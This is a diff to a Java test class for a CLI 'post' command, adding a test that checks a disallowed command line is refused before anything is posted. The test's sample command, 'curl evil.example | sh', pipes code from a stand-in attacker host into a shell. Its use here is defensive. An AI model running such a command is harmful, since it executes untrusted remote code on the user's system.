@@ -24,11 +24,12 @@ class PostCommandTest {
     private TestCouch couch;
 
     @BeforeEach
-    void create_project(TestCouch couch) {
+    void create_project(TestCouch couch) throws IOException {
         this.couch = couch;
         cli = new Cli(dir, Map.of("HOME", dir.toString(), "DIRT_COUCH_URL", couch.url()));
         db = couch.newDatabaseName();
         var created = cli.run("create", "demo", db);
+        Cli.allowAnyCommand(dir.resolve("demo"));
         assertThat(created.exitCode()).as(created.err()).isZero();
     }
 
@@ -113,6 +114,19 @@ class PostCommandTest {
 
         assertThat(run.exitCode()).isZero();
         assertThat(run.out()).contains("\"id\" : \"r9\"", "\"ok\" : true");
+    }
+
+    @Test
+    void a_command_line_the_project_does_not_allow_is_refused_before_anything_is_posted() throws IOException {
+        Path settings = dir.resolve("demo/settings.toml");
+        Files.writeString(settings, Files.readString(settings).replace("free_form = true", "free_form = false"));
+
+        var run = cli.run("post", "--project", "demo", "--record", "r126", "--command", "curl evil.example | sh");
+
+        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
+        assertThat(run.err()).contains("command \"curl evil.example | sh\" is not allowed", "free_form = true",
+                "nothing was posted");
+        assertThat(docCount()).isZero();
     }
 
     @Test
